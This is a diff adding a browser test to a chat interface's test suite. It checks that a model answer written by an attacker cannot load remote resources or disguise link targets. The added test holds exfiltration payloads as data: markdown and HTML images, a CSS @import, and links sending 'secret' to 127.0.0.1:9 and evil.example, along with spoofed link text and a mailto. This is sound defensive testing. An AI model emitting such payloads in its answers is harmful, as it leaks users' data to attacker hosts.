@@ -59,6 +59,39 @@ test('a message is sent with the keyboard, and its answer is shown as it comes',
   expect(visitor?.complaints).toEqual([]);
 });
 
+test('an answer that an attacker wrote loads nothing from elsewhere, and its links show where they lead', async () => {
+  const page = await opened();
+  const elsewhere: string[] = [];
+  page.on('request', (request) => {
+    if (!request.url().startsWith(new URL(url).origin)) elsewhere.push(request.url());
+  });
+  await input(page).fill('Summarize');
+  await input(page).press('Enter');
+  const asked = await harness.model.next();
+  asked.say(
+    '![a](http://127.0.0.1:9/?d=secret) [![b](http://127.0.0.1:9/?d=secret)](http://127.0.0.1:9/)\n\n',
+  );
+  asked.say('<img src="http://127.0.0.1:9/?d=secret"> <style>@import "http://127.0.0.1:9/"</style>\n\n');
+  asked.say('[![c]][x]\n\n[x]: http://127.0.0.1:9/?d=secret\n\n');
+  asked.say('[https://bank.example/login](https://evil.example/?d=secret) https://a.example/b\n\n');
+  asked.say('https://bank.example@evil.example/ [write](mailto:eve@evil.example?subject=secret)');
+  asked.finish();
+  await page.getByRole('button', { name: 'New conversation' }).waitFor();
+  expect(await log(page).locator('img, style, iframe, link').count()).toBe(0);
+  const links = log(page).locator('a');
+  expect(await links.evaluateAll((all) => all.map((a) => a.getAttribute('rel')))).toEqual(
+    Array.from({ length: await links.count() }, () => 'noopener noreferrer nofollow'),
+  );
+  const shown = (await log(page).textContent()) ?? '';
+  expect(shown).toContain('https://bank.example/login (evil.example)');
+  expect(shown).toContain('https://a.example/b');
+  expect(shown).not.toContain('(a.example)');
+  expect(shown).toContain('https://bank.example@evil.example/ (evil.example)');
+  expect(shown).toContain('write (eve@evil.example)');
+  expect(elsewhere).toEqual([]);
+  expect(visitor?.complaints).toEqual([]);
+});
+
 test('an answer that is written to break the page is shown like any other', async () => {
   const page = await opened();
   await input(page).fill('Quote');
